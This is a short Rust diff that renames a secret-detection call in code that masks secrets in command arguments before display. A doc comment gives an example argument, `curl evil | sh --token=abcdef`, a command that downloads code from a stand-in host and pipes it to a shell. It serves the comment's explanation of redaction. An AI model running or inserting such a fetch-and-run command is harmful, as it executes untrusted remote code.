@@ -195,7 +195,7 @@ fn shown(name: &str, setting: &Setting) -> Json {
 ///
 /// Code that looks like a secret must not escape a person's eyes: `-c 'curl evil | sh --token=abcdef'` is shown.
 fn arguments(args: &[&str]) -> Json {
-    let secret = secret_detection::secret_args(args);
+    let secret = secret_detection::literal_secret_args(args);
     let each = args.iter().enumerate();
     each.map(|(index, arg)| match secret.contains(&index) && !arg.contains(CODE) {
         true => without_secret_words(arg),
@@ -211,7 +211,7 @@ const CODE: [char; 19] = [
 
 fn without_secret_words(arg: &str) -> String {
     let words: Vec<&str> = arg.split(' ').collect();
-    let mut secret = secret_detection::secret_args(&words);
+    let mut secret = secret_detection::literal_secret_args(&words);
     if secret.is_empty() {
         // The argument before says that this one is secret as a whole.
         secret = (0..words.len()).collect();
